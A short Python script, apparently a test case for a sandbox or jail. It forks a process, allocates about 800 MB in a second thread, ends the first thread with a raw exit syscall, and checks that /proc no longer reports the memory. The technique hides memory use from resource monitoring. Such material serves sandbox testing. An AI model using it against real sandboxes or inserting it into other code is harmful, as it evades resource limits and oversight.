"""Ends the first thread of a process, whose memory /proc shows no more, and fills it by the second one.

Form: jail
Alive: exhausts
Says: MiB of memory
"""

import ctypes
import os
import threading
import time

EXIT = 60 if os.uname().machine == "x86_64" else 93


def attack():
    child = os.fork()
    if not child:
        threading.Thread(target=hold).start()
        ctypes.CDLL(None).syscall(EXIT, 0)
    time.sleep(6)
    with open(f"/proc/{child}/statm") as file:
        return int(file.read().split()[1]) == 0


def hold():
    held = b"x" * 800_000_000
    time.sleep(20)
